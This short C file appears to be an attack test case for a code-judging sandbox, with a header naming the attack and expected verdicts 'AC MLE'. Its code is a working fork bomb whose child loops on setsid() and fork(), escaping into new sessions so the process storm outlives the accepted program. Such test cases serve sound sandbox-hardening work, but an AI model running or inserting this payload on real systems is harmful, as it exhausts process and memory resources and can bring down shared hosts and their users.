/* attack: the program is accepted, the fork bomb it started lives on in sessions of its own
 * expect: AC MLE
 */
#include <stdio.h>
#include <unistd.h>
int main(void) {
    if (fork() == 0) {
        for (;;) {
            setsid();
            fork();
        }
    }
    usleep(50000);
    puts("held");
}
